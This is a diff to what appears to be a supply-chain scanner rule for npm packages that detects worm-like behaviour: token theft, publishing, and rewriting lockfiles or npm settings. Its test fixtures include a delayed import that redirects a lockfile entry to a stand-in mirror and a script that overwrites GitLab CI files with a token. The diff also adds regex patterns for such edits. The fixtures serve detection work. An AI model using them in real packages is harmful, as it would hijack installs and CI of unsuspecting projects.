@@ -1,6 +1,6 @@
 import type { Action, Fact, Flow, Inspection, Phase, Rule, Site } from '../lib/types.ts'
 import { oncePerLine } from './behaviour/once.ts'
-import { unasked } from './behaviour/written.ts'
+import { isProgram, isSuspiciousText, slashes, unasked } from './behaviour/written.ts'
 import { findingAt, findingOfFlow, opening, quote, severityOf } from './finding.ts'
 import type { RuleFinding } from './finding.ts'
 
@@ -23,8 +23,9 @@ export const worm: Rule = {
     description:
       'While installing or on import the code publishes packages, tries found tokens, searches the disk for secrets ' +
       'with a scanner, makes repositories or writes workflows that read the secrets of CI. With the tokens of one ' +
-      'developer such a package reaches all packages of that developer. Also: a hook that asks CI for an identity, or ' +
-      'rewrites the manifests or the lockfile of the project that installs it. Release tools publish when their user says so.',
+      'developer such a package reaches all packages of that developer. Also: a hook that asks CI for an identity; a hook ' +
+      'or an import that rewrites the manifest, the lockfile or the settings of npm of the project that uses it. Release ' +
+      'tools, formatters of lockfiles and the like do so when their user says so.',
     references: [
       'Shai-Hulud (September and November 2025)',
       'CanisterWorm, Mini Shai-Hulud (March to May 2026)',
@@ -57,8 +58,25 @@ export const worm: Rule = {
               "const axios = require('axios')\nfor (const id of [1, 2]) axios.put(`https://gitlab.example/api/v4/projects/${id}/repository/files/.gitlab-ci.yml`, { content: 'x' }, { headers: { 'private-token': process.env.GITLAB_TOKEN } })\n",
           },
         },
+        {
+          title: 'an import makes the lockfile point elsewhere, after a while',
+          files: {
+            'package.json': '{"name":"a","version":"1.0.0","main":"i.js"}',
+            'i.js':
+              "const fs = require('fs')\nsetTimeout(() => {\n  const lock = JSON.parse(fs.readFileSync('package-lock.json', 'utf8'))\n  lock.packages['node_modules/x'].resolved = 'https://npm.mirror.invalid/x.tgz'\n  fs.writeFileSync('package-lock.json', JSON.stringify(lock))\n}, 60000)\n",
+          },
+        },
       ],
       passes: [
+        {
+          title: 'a function and a command change the manifest for who calls them',
+          files: {
+            'package.json': '{"name":"a","version":"1.0.0","main":"i.js","bin":"cli.js"}',
+            'i.js':
+              "const fs = require('fs')\nexports.bump = version => {\n  const lock = JSON.parse(fs.readFileSync('package-lock.json', 'utf8'))\n  lock.version = version\n  fs.writeFileSync('package-lock.json', JSON.stringify(lock, null, 2))\n}\n",
+            'cli.js': "#!/usr/bin/env node\nrequire('./i.js').bump(process.argv[2])\n",
+          },
+        },
         {
           title: 'a release command publishes',
           files: {
@@ -71,8 +89,8 @@ export const worm: Rule = {
     },
   },
   check(inspection) {
-    const acts = inspection.facts.flatMap(fact => (unasked(fact) ? actsOf(fact) : []))
-    const together = new Set(acts.map(act => act.what)).size > 1
+    const acts = inspection.facts.flatMap(fact => (unasked(fact) ? actsOf(fact, inspection) : []))
+    const together = new Set(acts.flatMap(act => (act.inside === true ? [] : [act.what]))).size > 1
     const findings = acts.map((act): RuleFinding => {
       const action: Action = act.alone || together || steals(inspection) ? 'block' : 'ask'
       const message =
@@ -105,15 +123,35 @@ const addresses: readonly { readonly what: string; readonly alone: boolean; read
 
 const registry = /^https?:\/\/registry\.(?:npmjs\.org|yarnpkg\.com)\//
 
+/** What decides what the project installs, and from where. */
+const deciding =
+  '(?:package-lock\\.json|npm-shrinkwrap\\.json|yarn\\.lock|pnpm-lock\\.yaml|pnpm-workspace\\.yaml|bun\\.lockb?|\\.npmrc|\\.yarnrc(?:\\.yml)?)'
+const lockfile = new RegExp(`^<project>/${deciding}$`)
+
 /** The manifest of a package inside the project that installs this one: a workspace's own. */
-const lockfile =
-  /^<project>\/(?:package-lock\.json|npm-shrinkwrap\.json|yarn\.lock|pnpm-lock\.yaml|bun\.lockb?|\.npmrc|\.yarnrc(?:\.yml)?)$/
 const neighbour = /^<project>\/(?!node_modules\/)(?:[^/]+\/){1,4}package\.json$/
 
-function actsOf(fact: Fact): readonly Act[] {
+/**
+ * The same as an import names it: a bare name lies where the program was started, a path from the root is what lies
+ * above the package's own folder, or what a search upwards found. npm runs hooks in the package's own folder.
+ */
+const fromImport = new RegExp(
+  `^(?:<project>/|\\./|(?:\\.\\./){1,4}|/|\\u0001/?)?(?:${deciding}|package\\.json)$`,
+)
+
+/** Another place than the public registries, in a lockfile or in settings. */
+const elsewhere =
+  /["']?(?:resolved|tarball|registry|npmRegistryServer)["']?\s{0,9}[:=]\s{0,9}["']?(?:https?|git\+\w{2,5}|file):\/{0,2}(?!registry\.(?:npmjs\.org|yarnpkg\.com))/i
+
+/** npm's own command for changing a manifest. */
+const edits = /\bnpm\s+(?:-\S+\s+)*pkg\s+set\s+\S*(?:dependencies|overrides|scripts|bundle)/i
+
+function actsOf(fact: Fact, inspection: Inspection): readonly Act[] {
   const { at, phase, byCall } = fact
   const act = (what: string, alone: boolean): Act => ({ what, alone, at, phase, byCall })
   if (fact.kind === 'starts') {
+    if (isProjects(fact, inspection) && fact.commands.some(text => edits.test(text)))
+      return [{ ...act('changes what the project installs, and from where', false), inside: true }]
     return commands
       .filter(({ command }) => fact.commands.some(text => command.test(text)))
       .map(({ what, alone }) => act(what, alone))
@@ -133,11 +171,26 @@ function actsOf(fact: Fact): readonly Act[] {
     return [{ ...act('rewrites the manifests of the packages beside it', false), inside: true }]
   if (fact.phase === 'install' && fact.paths.some(path => lockfile.test(path)))
     return [{ ...act('changes what the project installs, and from where', false), inside: true }]
+  if (isProjects(fact, inspection) && fact.paths.some(path => fromImport.test(slashes(path)))) {
+    const told = fact.contents.find(text => elsewhere.test(text) || isSuspiciousText(text))
+    const what = told === undefined ? '' : ` (${quote(told)})`
+    return [
+      {
+        ...act(`changes what the project installs, and from where${what}`, told !== undefined),
+        inside: true,
+      },
+    ]
+  }
   const workflow = fact.paths.some(path => path.includes('.github/workflows/'))
   const text = fact.contents.find(one => /secrets\s*[.)[]|toJSON\(\s*secrets/i.test(one))
   return workflow && text !== undefined
     ? [act(`writes a workflow that reads secrets (${quote(text)})`, true)]
     : []
+}
+
+/** Whether it works where the program that imports it was started, and is no command of its own. */
+function isProjects(fact: Fact, inspection: Inspection): boolean {
+  return fact.phase === 'import' && !isProgram(fact, inspection)
 }
 
 /** A token read from a file or the environment that signs a publish or a write to the registry. */
